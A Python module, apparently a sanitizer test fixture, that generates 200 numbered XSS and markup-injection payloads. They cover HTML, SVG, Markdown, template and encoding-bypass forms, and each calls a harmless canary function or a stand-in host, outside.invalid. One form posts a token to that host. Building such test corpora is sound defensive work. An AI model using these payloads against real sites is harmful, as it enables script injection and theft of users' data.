"""Two hundred texts that would run a script or fetch from outside, were they read as markup.

Each calls `canary(n)` or asks for OUTSIDE/n, with its own number n, in whatever way its kind has.
"""

from __future__ import annotations

from base64 import b64encode
from dataclasses import dataclass
from urllib.parse import quote

OUTSIDE = "https://outside.invalid"
COUNT = 200

# {run}: a call of the canary; {url}: an address outside; {n}: the number.
HTML = (
    "<script>{run}</script>",
    "<script src={url}></script>",
    '<script type="module">import "{url}"</script>',
    "<svg><script>{run}</script></svg>",
    "<svg/onload={run}>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><image href={url} /></svg>",
    '<svg><use href="{url}#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style>",
    "<img src=x onerror={run}>",
    "<img src={url}>",
    '<img srcset="{url} 2x">',
    "<picture><source srcset={url}><img src=x></picture>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video src=x onerror={run}></video>",
    "<video poster={url} controls></video>",
    "<audio src={url} autoplay></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation:x 1s' onanimationstart={run}>x</div><style>@keyframes x{{}}</style>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java&#x73;cript:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href=vbscript:{run}>x</a>",
    "<a href=//outside.invalid/{n}>x</a>",
    "<a href=/planted/{n}>x</a>",
    "<a href={url} ping={url} target=_blank>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form action={url} method=post><input name=token><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<iframe src={url}></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data={url}></object>",
    "<object data=javascript:{run}></object>",
    "<embed src={url}>",
    "<frameset onload={run}><frame src={url}></frameset>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import url({url});</style>",
    "<style>body{{background:url({url})}}</style>",
    "<p style='background-image:url({url})'>x</p>",
    "<p style='list-style:url({url});display:list-item'>x</p>",
    "<table background={url}><tr><td>x</td></tr></table>",
    "<input type=image src={url}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
)
MARKDOWN = (
    "![x]({url})",
    "![x]({url} '\" onerror={run} x=\"')",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java&Tab;script:{run})",
    "[x](<javascript:{run}>)",
    "[x](data:text/html;base64,{packed})",
    "[x]({url})",
    "[x](//outside.invalid/{n})",
    "[x](/planted/{n})",
    "[x](\\\\outside.invalid\\{n})",
    "[x][1]\n\n[1]: javascript:{run}",
    "![x][1]\n\n[1]: {url}",
    "[![x]({url})]({url})",
    "<{url}>",
    "<javascript:{run}>",
    "{url}",
    "www.outside.invalid/{n}",
    "someone{n}@outside.invalid",
    "![x](data:image/svg+xml;base64,{packed})",
    "`</code><img src=x onerror={run}>`",
    "```html\n<img src=x onerror={run}>\n```",
    "```\n```\n<img src=x onerror={run}>",
    '```mermaid\ngraph TD\nA-->B\nclick A "javascript:{run}"\n```',
    "```mermaid\ngraph TD\nA[<img src=x onerror={run}>]-->B\n```",
    "| <img src=x onerror={run}> | b |\n| --- | --- |\n| ![x]({url}) | d |",
    "# <img src=x onerror={run}>",
    "> <img src=x onerror={run}>",
    "- [ ] <img src=x onerror={run}>",
    "    <img src=x onerror={run}>",
    "x\n\n<div>\n\n<img src=x onerror={run}>\n\n</div>",
    "x[^1]\n\n[^1]: <img src=x onerror={run}>",
    "~~<img src=x onerror={run}>~~ **<svg/onload={run}>**",
    "\\<img src=x onerror={run}>",
    ":::raw\n<img src=x onerror={run}>\n:::",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "$\\includegraphics{{{url}}}$",
    "\\(\\url{{javascript:{run}}}\\)",
    "$$\\htmlStyle{{background:url({url})}}{{x}}$$",
    "$x</span><img src=x onerror={run}>$",
)
TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{ ''.__class__.__mro__ }}}}<img src={url}>",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "{{% include '{url}' %}}",
    "{{@html '<img src=x onerror={run}>'}}",
    "<div v-html=\"'<img src=x onerror={run}>'\"></div>",
    "<x on:click={{{run}}} use:action>{{@const a = {run}}}</x>",
    "$body $title $$links ${{url}} <img src={url}>",
    "%(url)s %s {{0}} {{url}} <img src={url}>",
)
ENCODED = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "&#x3c;img src=x onerror={run}&#x3e;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&ltimg src=x onerror={run}&gt",
    "%3Cimg%20src=x%20onerror={run}%3E",
    "%253Cimg%2520src=x%2520onerror={run}%253E",
    "\\u003cimg src=x onerror={run}\\u003e",
    "\\x3cimg src=x onerror={run}\\x3e",
    "+ADw-img src=x onerror={run}+AD4-",
    "＜img src=x onerror={run}＞",
    "‹script›{run}‹/script›",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "<img\u2028src=x\u2028onerror={run}>",
    "<img\x0bsrc=x\x0conerror={run}>",
    "\u202e<img src=x onerror={run}>\u202c",
    "\u2066<a href=javascript:{run}>\u2069x</a>",
    "<a href='\u200bjavascript:{run}'>x</a>",
    "<a href='\x01javascript:{run}'>x</a>",
    "<a href='&#1;javascript&colon;{run}'>x</a>",
    "[x](\u200bjavascript:{run})",
    "[x](javascript&colon;{run})",
    "\ufeff<script>{run}</script>",
    "<\u00adimg src=x onerror={run}>",
    "https://ours@outside.invalid/{n}",
    "https://оutside.invalid/{n}",
)
# What would end the place that a text stands in; then a plain attempt follows.
ENDINGS = (
    '"',
    "'",
    '">',
    "'>",
    "`",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</code></pre>",
    "</mark></blockquote></article>",
    "</h1></header>",
    "</td></tr></table>",
    "</svg>",
    "</option></select>",
    "</div></div></div>",
    "\n\n\n",
    "\r\n\r\n",
    "\\",
    ")",
)
AFTER = (
    "<img src=x onerror={run}>",
    "<script>{run}</script>",
    " autofocus tabindex=0 onfocus={run} x=",
)


@dataclass(frozen=True, slots=True)
class Payload:
    n: int
    text: str


def _kinds() -> list[str]:
    kinds = [*HTML, *MARKDOWN, *TEMPLATES, *ENCODED]
    endings = [f"{ending}{after}" for after in AFTER for ending in ENDINGS]
    return kinds + endings[: COUNT - len(kinds)]


def payloads() -> list[Payload]:
    """All COUNT of them, numbered from 0."""
    made = []
    for n, kind in enumerate(_kinds()):
        run = f"canary({n})"
        packed = b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>".encode())
        text = kind.format(run=run, url=f"{OUTSIDE}/{n}", n=n, packed=quote(packed.decode()))
        made.append(Payload(n, text))
    return made
